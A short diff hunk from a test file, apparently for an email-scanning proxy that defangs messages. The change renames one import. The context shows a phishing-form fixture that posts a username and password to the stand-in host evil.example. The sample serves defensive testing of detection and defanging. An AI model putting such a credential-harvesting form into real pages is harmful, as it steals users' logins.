@@ -20,7 +20,7 @@ from selectolax.lexbor import LexborHTMLParser
 
 from popproxy.scan import Verdict, apply_action, defang_message
 from tests.scan.helpers import build
-from tests.scan.test_defang_tree import _live
+from tests.scan.test_defang_html import _live
 
 PHISH_FORM = (b'<html><body><form action="https://evil.example/collect" method=post>'
               b'<input name=user><input type=password name=pw><input type=submit></form>'
